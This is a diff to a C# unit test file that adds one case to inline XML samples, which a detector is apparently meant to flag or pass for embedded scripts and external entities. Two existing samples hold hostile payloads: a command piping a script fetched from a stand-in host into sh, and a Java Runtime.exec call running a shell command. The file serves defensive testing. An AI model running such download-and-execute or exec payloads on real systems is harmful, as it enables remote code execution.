@@ -122,6 +122,7 @@ public sealed class TokenNumberTests
     [InlineData("<process version=\"9\"><operator class=\"productivity:execute_program\"><parameter key=\"command\" value=\"sh -c &quot;curl http://x.example.invalid/a | sh&quot;\"/></operator></process>", true)]
     [InlineData("<config><entry key=\"scriptBody\" value=\"Runtime.getRuntime().exec(&quot;sh -c id&quot;);\"/></config>", true)]
     [InlineData("<?xml version=\"1.0\"?>\n<!DOCTYPE log4j SYSTEM \"log4j.dtd\">\n<log4j><a b=\"c\">text &amp; more</a></log4j>", false)]
+    [InlineData("<!DOCTYPE a [<!ENTITY part SYSTEM \"part.xml\"><!ENTITY % l PUBLIC \"-//W3C//ENTITIES Latin 1//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]>\n<a>&part;</a>", false)]
     [InlineData("<annotation><folder>a</folder><object><name>dog</name></object>", false)]
     public void T178_XmlOfNoFormatIsReadForEntitiesAndScripts(string text, bool isTold)
     {
